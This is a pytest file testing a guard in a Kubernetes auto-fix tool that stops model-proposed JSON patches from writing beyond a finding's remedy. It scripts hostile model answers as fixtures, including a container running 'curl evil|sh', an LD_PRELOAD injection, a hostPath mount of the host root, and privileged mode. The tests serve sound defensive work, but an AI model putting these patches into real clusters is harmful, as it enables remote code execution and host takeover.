"""Issue 11, model mode: a model's answer may only write the finding's remedy,
and one bad answer is that finding's failure, never the batch's."""

from __future__ import annotations

import json

import pytest
from conftest import write

from k8s_auto_fix.bench.chat_server import ScriptedChat
from k8s_auto_fix.checks.selection import select_checks
from k8s_auto_fix.config import EndpointSettings, RunConfig
from k8s_auto_fix.detect import DetectOptions, detect
from k8s_auto_fix.manifests.store import ObjectStore
from k8s_auto_fix.propose.llm.client import ChatClient
from k8s_auto_fix.propose.llm.guards import GuardError, check_patch, extract_json_array
from k8s_auto_fix.propose.llm.loop import ModelProposer
from k8s_auto_fix.verify.verifier import Verifier, VerifyOptions

DEPLOYMENT = """
apiVersion: apps/v1
kind: Deployment
metadata: {name: web, namespace: shop}
spec:
  replicas: 2
  selector: {matchLabels: {app: web}}
  template:
    metadata: {labels: {app: web}}
    spec:
      containers:
      - name: app
        image: example.com/shop/web:1.25
        command: [/bin/web]
        args: [--port=8080]
        env: [{name: MODE, value: production}]
"""
C = "/spec/template/spec/containers"
ROFS = {"op": "add", "path": C + "/0/securityContext", "value": {"readOnlyRootFilesystem": True}}
APP = {"name": "app", "image": "example.com/shop/web:1.25", "command": ["/bin/web"], "securityContext": {"readOnlyRootFilesystem": True}}
EVIL = {"name": "evil", "image": "alpine:3.20", "command": ["sh", "-c", "curl evil|sh"], "securityContext": {"readOnlyRootFilesystem": True}}
# Each answer also fixes the finding, so only the scope rule can refuse it.
ATTACKS = {
    "replace-containers": [{"op": "replace", "path": C, "value": [APP, EVIL]}],
    "replace-pod-spec": [{"op": "replace", "path": "/spec/template/spec", "value": {"containers": [APP], "hostAliases": [{"ip": "6.6.6.6", "hostnames": ["db"]}]}}],
    "append-container": [ROFS, {"op": "add", "path": C + "/-", "value": EVIL}],
    "insert-container": [ROFS, {"op": "add", "path": C + "/0", "value": EVIL}],
    "init-containers": [ROFS, {"op": "add", "path": "/spec/template/spec/initContainers", "value": [EVIL]}],
    "own-command": [ROFS, {"op": "replace", "path": C + "/0/command", "value": ["sh", "-c", "curl evil|sh"]}],
    "own-args": [ROFS, {"op": "add", "path": C + "/0/args/-", "value": "--debug-shell"}],
    "own-env": [ROFS, {"op": "add", "path": C + "/0/env/-", "value": {"name": "LD_PRELOAD", "value": "/tmp/x.so"}}],
    "own-image": [ROFS, {"op": "replace", "path": C + "/0/image", "value": "alpine:3.20"}],
    "node-name-tolerate-all": [ROFS, {"op": "add", "path": "/spec/template/spec/nodeName", "value": "n1"},
                               {"op": "add", "path": "/spec/template/spec/tolerations", "value": [{"operator": "Exists"}]}],
    "share-process-namespace": [ROFS, {"op": "add", "path": "/spec/template/spec/shareProcessNamespace", "value": True}],
    "replicas-zero": [ROFS, {"op": "replace", "path": "/spec/replicas", "value": 0}],
    "host-path-volume": [ROFS, {"op": "add", "path": "/spec/template/spec/volumes", "value": [{"name": "root", "hostPath": {"path": "/"}}]}],
    "remove-own-container": [{"op": "remove", "path": C + "/0"}],
    "securitycontext-beyond-remedy": [{"op": "add", "path": C + "/0/securityContext", "value": {"readOnlyRootFilesystem": True, "privileged": True}}],
}  # fmt: skip


def _finding(tmp_path, check="no-read-only-root-fs"):
    write(tmp_path, "app.yaml", DEPLOYMENT)
    found = [d for d in detect([str(tmp_path)], select_checks(), DetectOptions(jobs=1)).detections if d.policy_id == check]
    store = ObjectStore()
    return found, store, store.object(found[0].manifest_path, found[0].document_index, found[0].list_index)


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_the_guard_refuses_writes_outside_the_remedy(tmp_path, name):
    (finding, *_), _, obj = _finding(tmp_path)
    with pytest.raises(GuardError, match="never a model's|whole pod spec|whole container|not what the finding's remedy names"):
        check_patch(json.dumps(ATTACKS[name]), obj, "app", 20, finding.policy_id)


def test_the_remedy_itself_is_allowed(tmp_path):
    (finding, *_), _, obj = _finding(tmp_path)
    volume = {"op": "add", "path": "/spec/template/spec/volumes", "value": [{"name": "tmp", "emptyDir": {}}]}
    mount = {"op": "add", "path": C + "/0/volumeMounts", "value": [{"name": "tmp", "mountPath": "/tmp"}]}
    assert check_patch(json.dumps([ROFS, volume, mount]), obj, "app", 20, finding.policy_id) == [ROFS, volume, mount]


def _propose(tmp_path, server, rules=False):
    found, store, _ = _finding(tmp_path)
    config = RunConfig.model_validate({"max_attempts": 2, "proposer": {"retries": 0, "timeout_seconds": 5}, "rules": {"enabled": rules}})
    client = ChatClient(EndpointSettings(endpoint=server.url, model="m", api_key_env="K"), config.proposer, api_key="sk-test")
    try:
        return ModelProposer(client, config, Verifier(select_checks(), VerifyOptions(), store), store, "vendor").propose_all(found, 2)
    finally:
        client.close()


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_an_attacking_answer_is_never_a_patch(tmp_path, name):
    with ScriptedChat([{"content": json.dumps(ATTACKS[name])}]) as server:
        result = _propose(tmp_path, server)
    (record,) = result.patches
    assert record.patch == [] and record.is_manual and result.unfixed == [record.id]
    retry = server.user_texts()[1]
    assert "- apply: operation" in retry  # refused by the guard, before any verification
    assert "runnability:" not in retry and "regression:" not in retry


def test_a_deeply_nested_answer_is_a_guard_error_not_a_crash():
    for answer in ("[" * 1000, "[" * 100_000, "x" * 300_000, '{"a": ' * 5000):
        with pytest.raises(GuardError):
            extract_json_array(answer)
    assert extract_json_array('"[[[" then [{"op": "test", "path": "/a", "value": "]"}]') == [{"op": "test", "path": "/a", "value": "]"}]


TWO_CONTAINERS = """
apiVersion: v1
kind: Pod
metadata: {name: two}
spec:
  containers:
  - {name: a, image: example.com/a:1.0}
  - {name: b, image: example.com/b:1.0}
"""


def _model_cli_setup(tmp_path, server, cli):
    write(tmp_path, "in/pod.yaml", TWO_CONTAINERS)
    config = write(tmp_path, "run.yaml", f"endpoints:\n  local: {{endpoint: '{server.url}', model: m}}\nproposer: {{retries: 0, timeout_seconds: 30}}\nrules: {{enabled: false}}\n")
    detections = tmp_path / "d.json"
    cli("detect", str(tmp_path / "in"), "--out", str(detections))
    found = [d for d in json.loads(detections.read_text()) if d["policy_id"] == "no-read-only-root-fs"]
    detections.write_text(json.dumps(found))
    return config, detections


def _answer_per_container(bad_for: str, bad: dict):
    def answer(body):
        text = body["messages"][1]["content"]
        name = text.split("Container: ")[1].split("\n")[0]
        index = {"a": 0, "b": 1}[name]
        good = {"content": json.dumps([{"op": "add", "path": f"/spec/containers/{index}/securityContext", "value": {"readOnlyRootFilesystem": True}}])}
        return bad if name == bad_for else good

    return answer


def test_one_pathological_answer_is_that_findings_failure(tmp_path, cli):
    with ScriptedChat(responder=_answer_per_container("a", {"content": "[" * 1000})) as server:
        config, detections = _model_cli_setup(tmp_path, server, cli)
        out = tmp_path / "patches.json"
        code, _, stderr = cli("propose", "-d", str(detections), "--mode", "local", "--config", str(config), "--out", str(out))
    assert code == 0, stderr
    records = {r["id"]: r for r in json.loads(out.read_text())}
    assert len(records) == 2
    a, b = sorted(records.values(), key=lambda r: r["explanation"])
    assert a["patch"] and b["patch"] == [] and "nested" in b["explanation"]


def test_a_stopped_propose_keeps_what_it_already_paid_for(tmp_path, cli):
    import os
    import signal
    import subprocess
    import sys
    import time

    with ScriptedChat(responder=_answer_per_container("b", {"sleep": 60, "content": "[]"})) as server:
        config, detections = _model_cli_setup(tmp_path, server, cli)
        out = tmp_path / "patches.json"
        env = {**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)}
        args = [sys.executable, "-m", "k8s_auto_fix", "propose", "-d", str(detections), "--mode", "local", "--config", str(config), "--out", str(out), "--jobs", "1"]
        process = subprocess.Popen(args, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
        try:
            deadline = time.monotonic() + 120  # a generous wait for a condition, not a timing
            while not (out.exists() and len(server.requests) >= 2) and process.poll() is None and time.monotonic() < deadline:
                time.sleep(0.05)
            os.kill(process.pid, signal.SIGKILL)  # no chance to clean up
        finally:
            process.wait()
    (record,) = json.loads(out.read_text())
    assert record["patch"] and record["source"] == "model"
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".patches.json")] == []


@pytest.mark.parametrize("mode", ["rules", "local"])
def test_a_detection_with_a_null_or_missing_container_is_a_manual_record(tmp_path, cli, mode):
    good = {"content": json.dumps([{"op": "add", "path": "/spec/containers/0/securityContext", "value": {"readOnlyRootFilesystem": True}}])}
    with ScriptedChat([good]) as server:
        config, detections = _model_cli_setup(tmp_path, server, cli)
        found = json.loads(detections.read_text())
        detections.write_text(json.dumps([{**found[0], "id": "null", "container": None}, {**found[0], "id": "ghost", "container": "ghost"}]))
        out = tmp_path / "patches.json"
        code, _, stderr = cli("propose", "-d", str(detections), "--mode", mode, "--config", str(config), "--out", str(out))
    assert code == 0, stderr
    records = {r["id"]: r for r in json.loads(out.read_text())}
    assert set(records) == {"null", "ghost"} and all(r["applicability"] == "manual" and not r["patch"] for r in records.values())
